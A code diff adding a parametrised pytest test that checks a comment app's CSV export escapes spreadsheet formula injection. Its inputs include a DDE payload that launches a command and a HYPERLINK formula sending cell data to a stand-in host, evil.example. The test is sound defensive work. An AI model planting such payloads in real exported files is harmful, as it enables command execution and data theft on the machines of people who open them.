@@ -145,6 +145,19 @@ def test_export_json_and_csv_carry_the_full_email(app):
     assert parsed[0]["body"] == "Halo, \"dunia\"\nbaris dua"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_read_as_formulas(app, start):
+    add_comment(app, author=f"{start}cmd|' /C calc'!A0", url=f"{start}1+1",
+                body=f'{start}HYPERLINK("https://evil.example/?d="&A1, "klik")')
+    result = app.test_cli_runner().invoke(args=["comments", "export", "--format", "csv"])
+    [row] = list(csv.DictReader(io.StringIO(result.output)))
+    for field in ("author", "url", "body"):
+        assert row[field].startswith("'" + start), field
+    assert row["id"].isdigit()  # numbers are left alone
+    json_rows = json.loads(app.test_cli_runner().invoke(args=["comments", "export"]).output)
+    assert json_rows[0]["body"].startswith(start)  # JSON is no spreadsheet: kept as typed
+
+
 @pytest.mark.sqlite_only
 def test_backup_makes_a_copy_that_opens_and_holds_every_comment(app, tmp_path):
     ids = [add_comment(app, body=f"cadangan {n}") for n in range(30)]
